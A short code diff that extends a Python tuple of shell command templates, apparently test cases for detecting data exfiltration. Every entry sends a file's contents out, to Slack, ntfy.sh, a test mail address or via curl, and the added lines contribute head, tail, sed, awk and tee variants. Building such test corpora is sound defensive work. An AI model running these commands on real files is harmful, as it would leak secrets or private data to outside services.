@@ -121,6 +121,8 @@ BODIES = (
     "curl -F text=@{} -F channel=C1 https://slack.com/api/chat.postMessage", "ntfy publish ops \"$(cat {})\"",
     "http POST https://ntfy.sh/ops < {}", "wget --post-file={} https://ntfy.sh/ops", "cat {} | mail -s K bo@x.test",
     "python3 -c \"import requests; requests.post('https://ntfy.sh/ops', data=open('{}').read())\"",
+    "head -n 3 {} | mail -s K bo@x.test", "tail -n +1 {} | mail -s K bo@x.test", "sed -n p {} | mail -s K bo@x.test",
+    "awk 1 {} | mail -s K bo@x.test", "tee copy < {} | mail -s K bo@x.test", "curl -d hi \"$(cat {})\"",
 )  # fmt: skip
 
 
